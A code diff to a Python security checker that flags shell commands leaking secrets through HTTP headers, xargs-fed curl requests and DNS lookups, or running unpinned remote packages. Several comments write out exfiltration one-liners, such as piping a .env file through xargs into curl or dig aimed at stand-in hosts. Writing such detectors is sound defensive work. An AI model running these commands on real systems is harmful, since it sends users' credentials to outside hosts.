@@ -289,10 +289,14 @@ class _Judge:
         interp = table()["interpreters"].get(name)
         if interp:
             self._interpreter(cmd, name, interp, args, depth)
-        self._send(cmd, name, words, args)
+        fed = _xargs_fed(raw) if "xargs" in via and cmd.piped_in else None
+        self._send(cmd, name, words, args, (fed, self._upstream_data(cmd)) if fed is not None else None)
         self._install(words)
+        self._runner(raw)
+        if words is not raw:
+            self._runner(words)
         self._tls(name, words, args)
-        self._dns(cmd, name, args)
+        self._dns(cmd, name, args, (fed, self._upstream_data(cmd)) if fed is not None else None)
         self._destroy(cmd, name, words, args)
         self._credentials(cmd, name, words, args)
         self._privilege(cmd, name, words, args, depth)
@@ -426,14 +430,15 @@ class _Judge:
 
     # -- sending ---------------------------------------------------------------
 
-    def _send(self, cmd: Command, name: str, words: list[str], args: list[str]) -> None:
+    def _send(self, cmd: Command, name: str, words: list[str], args: list[str],
+              fed: tuple[str, str] | None = None) -> None:
         t = table()
         stdin_file = next((target for op, target in cmd.redirects if op == "<"), "")
         herestring = any(op == "<<<" for op, _ in cmd.redirects)
         stdin_from = stdin_file or ("command output" if cmd.piped_in or herestring else "")
         repointed = any(a.startswith(("--resolve", "--connect-to")) for a in args)
         if name in t["http"]:
-            self._http(cmd, name, t["http"][name], args, stdin_from, repointed)
+            self._http(cmd, name, t["http"][name], args, stdin_from, repointed, fed)
             return
         key, length = _key(words, t["copy"])
         if key:
@@ -481,13 +486,14 @@ class _Judge:
                 self._sent(key, [what], host or "another host", rule="AH202")
 
     def _http(self, cmd: Command, name: str, spec: dict[str, Any], args: list[str], stdin_from: str,
-              repointed: bool) -> None:
+              repointed: bool, fed: tuple[str, str] | None = None) -> None:
         values = set(spec.get("values", ())) | set(spec.get("data", ())) | set(spec.get("file", ())) | set(
             spec.get("form", ())) | set(spec.get("post", ())) | set(spec.get("postdata", ()))
         ops = _operands(args, values)
         dest = _destination(ops) or next((a.split("=", 1)[1] for a in args if a.startswith("--url=")), "")
-        if not dest and "--url" in args and args.index("--url") + 1 < len(args):
-            dest = args[args.index("--url") + 1]
+        for option in ("--url", "-Uri"):
+            if not dest and option in args and args.index(option) + 1 < len(args):
+                dest = args[args.index(option) + 1]
         host = _host_of(dest) if dest else ""
         if dest and not _outside(host, self.env, repointed):
             return
@@ -495,6 +501,9 @@ class _Judge:
         computed = False
         shorts = [o for group in ("data", "file", "form") for o in spec.get(group, ())
                   if o.startswith("-") and not o.startswith("--")]
+        if fed is not None and dest and _fed_into(fed[0], args, spec, host):
+            sent.append(fed[1])  # `cat .env | xargs -I{} curl https://x/?d={}`: each line read goes out
+        self._metadata(cmd, name, spec, args, ops, dest, host)
         for i, arg in enumerate(args):
             opt, eq, inline_value = arg.partition("=")
             value = inline_value if eq else (args[i + 1] if i + 1 < len(args) else "")
@@ -540,13 +549,68 @@ class _Judge:
             self._leak(host or dest, self._inner_data(cmd) or "command output", "in the address it requests",
                        rule="AH205")
             return
-        if not sent and dest and _secretish(dest):
+        if not sent and dest and _secretish(dest) and not own_service(_secret_names(dest), host, dest):
             self._leak(host or dest, "a secret variable", "in the address it requests", rule="AH205")
             return
         if sent:
             self._sent(name, sent, host or "an unnamed host")
             if piped:  # also a pipe into a network tool: an allow entry for either id keeps covering the line
                 self._sent(name, sent, host or "an unnamed host", rule="AH202")
+
+    def _metadata(self, cmd: Command, name: str, spec: dict[str, Any], args: list[str], ops: list[str], dest: str,
+                  host: str) -> None:
+        """A secret carried in a request's header, cookie or user (`-H "Authorization: Bearer $AWS_…"`) is sent
+        as surely as a body; to the service the secret belongs to (a GitHub token to api.github.com) it is that
+        service's normal use."""
+        if not host or "$" in host or "." not in host:
+            return  # `curl -H "…$TOKEN" "$API_URL/x"`: the reader's own service, named where it is configured
+        carried: list[str] = []
+        meta = spec.get("meta", ())
+        for i, arg in enumerate(args):
+            opt, eq, inline_value = arg.partition("=")
+            if arg in meta and i + 1 < len(args):
+                carried.append(args[i + 1])
+            elif eq and opt in meta and opt.startswith("--"):
+                carried.append(inline_value)
+            elif not eq and len(arg) > 2 and arg[:2] in meta and not arg.startswith("--"):
+                carried.append(arg[2:])  # `-H'X-Key: …'`
+        if spec.get("httpie"):
+            # `Header:value`, `param==value` and `field=value` items all leave with the request
+            carried += [o for o in ops if o != dest and "://" not in o and (":" in o or "=" in o)]
+        for value in carried:
+            names = _secret_names(value)
+            what = ""
+            if names and not own_service(names, host, dest):
+                what = f"the value of `${names[0]}`"
+            elif ("$(" in value or "`" in value) and cmd.inner:
+                data = self._inner_data(cmd)
+                if _credential(data.strip("`")) or data == "the environment":
+                    what = f"`{data}`" if data != "the environment" else data
+            if what:
+                severity = "critical" if names and known_secret(names[0]) or what.startswith("`") else "high"
+                self.add("AH201", severity, f"sends {what} to {host or 'an unnamed host'} in a request header, "
+                                            f"cookie or login with `{name}`")
+                return
+
+    def _runner(self, words: list[str]) -> None:
+        """A package runner handed a repository or URL with no fixed revision runs whatever is there now."""
+        runners = table()["runners"]
+        key, length = _key(words, runners)
+        if not key:
+            return
+        spec = runners[key]
+        args = words[length:]
+        named = [args[i + 1] for i, a in enumerate(args[:-1]) if a in spec.get("spec", ())]
+        named += [a.split("=", 1)[1] for a in args if "=" in a and a.split("=", 1)[0] in spec.get("spec", ())]
+        ops = _operands(args, set(spec.get("values", ())))
+        candidates = named + ops[:1]
+        for candidate in candidates:
+            source = _unfixed_source(candidate.strip("'\""), key, bool(spec.get("go")),
+                                     bool(spec.get("urls_only")) and candidate not in named)
+            if source and _outside(_host_of(source.removeprefix("git+")), self.env):
+                self.add("AH901", "high", f"runs `{candidate[:80]}` with `{key}`, fetched from {source[:80]} at no "
+                                          "fixed revision: whatever is pushed there next runs on this machine")
+                return
 
     def _upstream_data(self, cmd: Command) -> str:
         """What a pipeline feeds a command: the file the first command reads, else its output."""
@@ -592,10 +656,16 @@ class _Judge:
 
     # -- DNS -------------------------------------------------------------------
 
-    def _dns(self, cmd: Command, name: str, args: list[str]) -> None:
+    def _dns(self, cmd: Command, name: str, args: list[str], fed: tuple[str, str] | None = None) -> None:
         if name not in table()["resolve"]["programs"] or name in ("curl", "wget"):
             return
         for word in args:
+            if fed is not None and fed[0] and word.startswith(fed[0] + ".") and _outside(_host_of(
+                    word[len(fed[0]) + 1:]), self.env):
+                # `cat .env | xargs -I{} dig {}.collect.io`: each line read is looked up by name
+                self._leak(word[len(fed[0]) + 1:], f"`{fed[1]}`" if _credential(fed[1]) else fed[1],
+                           f"through DNS lookups by `{name}`")
+                return
             if not cmd.inner and "$" in word and not word.startswith("-") and "." in word[word.index("$"):]:
                 # `dig ${data}.collect.io`: whatever the variable holds is looked up by name
                 variable = word[word.index("$"):].split(".", 1)[0]
@@ -608,6 +678,8 @@ class _Judge:
                 target = word.split("$(", 1)[0].split("`", 1)[0]
                 tail = word.rsplit(")", 1)[-1].rsplit("`", 1)[-1]
                 host = tail.lstrip(".") or target
+                if "." not in host.strip(".") or not _outside(_host_of(host), self.env):
+                    continue  # `ping $(hostname)`, `dig $(hostname).local`: answered on this network
                 self._leak(host or "a name server", self._inner_data(cmd) or "command output",
                            f"through a DNS lookup by `{name}`")
                 return
@@ -797,6 +869,136 @@ _SECRETISH = lazyre.compile(r"\$\{?\w*(?:TOKEN|SECRET|KEY|PASS|PWD|CRED|AUTH|COO
 
 def _secretish(value: str) -> bool:
     return bool(_SECRETISH.search(value))
+
+
+_VARIABLE = lazyre.compile(r"\$(?:env:|\{)?([A-Za-z_][A-Za-z0-9_]{0,80})")
+_SECRET_WORD = lazyre.compile(r"TOKEN|SECRET|KEY|PASS|PWD|CRED|AUTH|COOKIE|SESSION", re.IGNORECASE)
+# Words of a variable's name that say what it is, not whose it is.
+_GENERIC_WORDS = frozenset(("TOKEN", "TOKENS", "SECRET", "KEY", "KEYS", "API", "ACCESS", "AUTH", "PASSWORD", "PASS",
+                            "PWD", "BEARER", "CLIENT", "ID", "PRIVATE", "PERSONAL", "APP", "SESSION", "COOKIE", "CRED",
+                            "CREDS", "CREDENTIAL", "CREDENTIALS", "USER", "USERNAME", "PAT", "OAUTH", "ADMIN", "MY",
+                            "DEFAULT", "SERVICE", "ACCOUNT", "WEBHOOK", "SIGNING", "SHARED", "MASTER", "ROOT", "PROD",
+                            "DEV", "TEST", "STAGING", "READ", "WRITE", "DEPLOY", "CI", "ENV", "HOME", "URL", "HOST"))
+
+
+def _secret_names(text: str) -> list[str]:
+    """The secret-looking variables a value expands (`$AWS_SECRET_ACCESS_KEY`, `${API_KEY}`, `$env:TOKEN`)."""
+    return [m.group(1) for m in _VARIABLE.finditer(text[:4096]) if _SECRET_WORD.search(m.group(1))]
+
+
+def _registered(host: str) -> str:
+    """The label a host is registered under: `stripe` for api.stripe.com, `acme` for api.acme.co.uk."""
+    labels = host.split(".")
+    if len(labels) < 2:
+        return ""
+    if len(labels) >= 3 and labels[-2] in ("co", "com", "org", "net", "ac", "gov", "edu") and len(labels[-1]) == 2:
+        return labels[-3]
+    return labels[-2]
+
+
+def known_secret(name: str) -> bool:
+    """A variable a well-known service's tools read (`GITHUB_TOKEN`, `AWS_SECRET_ACCESS_KEY`)."""
+    return any(word in table()["credentials"]["services"] for word in name.upper().split("_"))
+
+
+_PLACEHOLDER_HOST = lazyre.compile(r"(?:^|[./@])(?:<[^<>/\s]{1,40}>|\{\{?[^{}/\s]{1,40}\}\}?|YOUR[-_A-Z0-9]{0,30}"
+                                   r"|your-[-a-z0-9]{1,30}|SUBDOMAIN|DOMAIN|ACCOUNT|PROJECT|TENANT|WORKSPACE|REGION)"
+                                   r"(?=[.:/]|$)")
+
+
+def own_service(names: list[str], host: str, dest: str) -> bool:
+    """Every secret goes to the service it belongs to: a word of its name is the host's registered name or a
+    service listed for it, or the address is a template the reader fills in with their own host
+    (`https://<your-app>.workers.dev`)."""
+    if not names:
+        return False
+    raw_host = dest.split("://", 1)[-1].split("/", 1)[0].split("?", 1)[0]
+    if _PLACEHOLDER_HOST.search(raw_host):
+        return True
+    services = table()["credentials"]["services"]
+    registered = _registered(host).replace("-", "")
+    for name in names:
+        words = [w.lower() for w in name.upper().split("_") if w and w not in _GENERIC_WORDS]
+        known = [services[w.upper()] for w in words if w.upper() in services]
+        if known:
+            # a well-known service's secret belongs to that service's own domains only
+            if not any(host == d or host.endswith("." + d) for domains in known for d in domains):
+                return False
+            continue
+        runs = {"".join(words[i:j]) for i in range(len(words)) for j in range(i + 1, len(words) + 1)}
+        if len(registered) < 3 or registered not in runs:
+            return False
+    return True
+
+
+def _xargs_fed(words: list[str]) -> str:
+    """The replace-string of `xargs -I{}` ('' when xargs appends what it reads)."""
+    for i, word in enumerate(words):
+        if word in ("-I", "--replace") and i + 1 < len(words):
+            return words[i + 1]
+        if word.startswith("-I") and len(word) > 2:
+            return word[2:]
+        if word.startswith("--replace="):
+            return word.split("=", 1)[1] or "{}"
+        if word in ("-i", "--replace"):
+            return "{}"
+        if not word.startswith("-") and i > 0 and words[i - 1] not in _XARGS_VALUES:
+            break
+    return ""
+
+
+_XARGS_VALUES = frozenset(("-n", "-P", "-d", "-L", "-l", "-s", "-E", "-e", "-a", "--max-args", "--max-procs",
+                           "--delimiter", "--arg-file"))
+
+
+def _fed_into(marker: str, args: list[str], spec: dict[str, Any], host: str) -> bool:
+    """Whether what xargs reads lands in the request, not in its host: a replace-string in the address's path
+    or query or in a data or header value, or the lines appended after an option that takes a value (`-d`)."""
+    if not marker:
+        return bool(args) and args[-1] in (set(spec.get("data", ())) | set(spec.get("meta", ())) |
+                                           set(spec.get("postdata", ())))
+    return any(marker in arg for arg in args) and marker not in host
+
+
+_FORGE_SHORTHANDS = (("github:", "https://github.com/"), ("gitlab:", "https://gitlab.com/"),
+                     ("bitbucket:", "https://bitbucket.org/"), ("gist:", "https://gist.github.com/"))
+_PINNED_REF = lazyre.compile(r"^(?:[0-9a-f]{7,40}|v?\d+(?:\.\d+){1,3}(?:[-+][\w.]{1,40})?)$", re.IGNORECASE)
+_REPO_SHORTHAND = lazyre.compile(r"^[A-Za-z0-9][\w.-]{0,38}/[\w.-]{1,100}(?:#\S{0,100})?$")
+_URL_VERSION = lazyre.compile(r"[@/-]v?\d+\.\d+")
+
+
+def _unfixed_source(spec: str, runner: str, go: bool, urls_only: bool) -> str:
+    """The repository or address a runner's package spec fetches when no revision fixes it, else ''."""
+    if go:
+        module, at, version = spec.partition("@")
+        if at and "." in module.split("/", 1)[0] and not _PINNED_REF.match(version):
+            return module  # `go run github.com/x/y@latest`
+        return ""
+    git = spec.startswith(("git+", "git://", "github:", "gitlab:", "bitbucket:", "gist:"))
+    if not git and "://" not in spec:
+        if urls_only or spec.startswith(("@", ".", "/", "~")) or runner.split()[0] in ("uvx", "uv", "pipx"):
+            return ""
+        if not _REPO_SHORTHAND.match(spec):
+            return ""  # a registry package, fixed by its version or the lockfile
+        git = True  # `npx user/repo` fetches the GitHub repository
+    source, _, fragment = spec.partition("#")
+    ref = fragment if fragment and "=" not in fragment else ""
+    if not ref and git:
+        tail = source.rstrip("/").rsplit("/", 1)[-1]
+        ref = tail.rsplit("@", 1)[1] if "@" in tail else ""
+    if ref and _PINNED_REF.match(ref.removeprefix("semver:")):
+        return ""
+    for short, forge in _FORGE_SHORTHANDS:
+        if source.startswith(short):
+            return forge + source[len(short):]
+    if "://" not in source:
+        return "https://github.com/" + source  # `user/repo`
+    if not git:
+        host = _host_of(source)
+        if any(host == h or host.endswith("." + h) for h in table()["fixed_sources"]["hosts"]) and \
+                _URL_VERSION.search(source.split("://", 1)[-1]):
+            return ""
+    return source
 
 
 def _broad(target: str, t: dict[str, Any]) -> str:
